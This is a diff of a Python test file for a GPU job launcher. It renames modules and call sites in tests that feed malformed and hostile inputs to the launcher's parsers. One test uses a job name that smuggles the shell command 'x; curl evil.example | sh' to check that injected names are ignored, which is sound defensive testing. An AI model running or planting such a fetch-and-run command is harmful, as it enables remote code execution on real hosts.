@@ -9,14 +9,23 @@ from typing import Any
 
 import pytest
 
-from launcher.checks import serving
+from launcher.checks import batch, gpu_use
 from launcher.checks.ray import read_payload
 from launcher.discovery import local_assets
 from launcher.errors import UnreadableAnswer
 from launcher.model import Answer
 from launcher.plan import network
 from launcher.state import counters, running
-from launcher.tools import docker, gpu_survey, head_answer, host, job_store, pairs, ray, vllm
+from launcher.tools import (
+    docker_read,
+    gpu_survey,
+    head_answer,
+    host_read,
+    job_store,
+    pairs,
+    ray,
+    vllm,
+)
 from tests import kept
 from tests.hostile import seeds
 
@@ -47,15 +56,15 @@ def usage(text: str) -> str:
         lambda: read_payload(answer({"jobs": [{"submission_id": 1, "status": "RUNNING"}]})),
         lambda: read_payload(answer({"replicas": {"": None}})),
         lambda: read_payload(answer({"offset": 10**30})),
-        lambda: docker.parse_containers(
+        lambda: docker_read.parse_containers(
             json.dumps([{"Name": "/a", "Id": {}, "Config": {}, "State": {}}])
         ),
-        lambda: docker.parse_containers(
+        lambda: docker_read.parse_containers(
             '[{"Name": "/a", "Id": "b", "Config": {}, "State": {"ExitCode": 1e999}}]'
         ),
-        lambda: docker.parse_containers("[" * 100_000),
+        lambda: docker_read.parse_containers("[" * 100_000),
         lambda: pairs.parse(answer("[" * 100_000)),
-        lambda: host.parse_probe(
+        lambda: host_read.parse_probe(
             "@@vlaunch home\n/\n@@vlaunch rc 0\n@@vlaunch addr\n"
             + "[" * 100_000
             + "\n@@vlaunch rc 0\n"
@@ -90,12 +99,12 @@ def test_figures_that_are_none() -> None:
     assert counters.number("inf", int) is None
     assert counters.number("nan", float) is None
     assert (
-        serving.busy_gpus(
+        gpu_use.busy_gpus(
             {"groups": rows({"state": "CREATED", "bundles": 5}), "actors": rows({"state": "ALIVE"})}
         )
         == 0
     )
-    assert serving.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
+    assert batch.claimed({"metadata": {job_store.GPUS: "inf"}}) == 0
 
 
 def test_a_name_that_is_a_command() -> None:
@@ -103,7 +112,7 @@ def test_a_name_that_is_a_command() -> None:
     job = seeds.job("batch-1", {job_store.NAME: "x; curl evil.example | sh", job_store.GPUS: "1"})
     row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
     assert running.holders(kept.said(row)) == []
-    assert serving.batch_holders({"jobs": [job]}) == []
+    assert batch.holders({"jobs": [job]}) == []
     assert running.batches({"jobs": [job]}) == []
 
 
@@ -131,7 +140,7 @@ def test_an_address_that_is_none(said: dict[str, Any]) -> None:
     links = json.loads(rows)
     links[0]["addr_info"][0].update(said)
     with pytest.raises(UnreadableAnswer):
-        host.parse_probe(f"{parts[0]}@@vlaunch addr\n{json.dumps(links)}{mark}{rest}")
+        host_read.parse_probe(f"{parts[0]}@@vlaunch addr\n{json.dumps(links)}{mark}{rest}")
 
 
 def test_a_token_that_is_none() -> None:
@@ -139,7 +148,7 @@ def test_a_token_that_is_none() -> None:
     text = dict(seeds.probes())["gpu01"].replace(
         "@@vlaunch token\ntok", "@@vlaunch token\n" + "status \n" * 9
     )
-    assert host.parse_probe(text).token == ""
+    assert host_read.parse_probe(text).token == ""
 
 
 def test_tags_that_are_no_text() -> None:
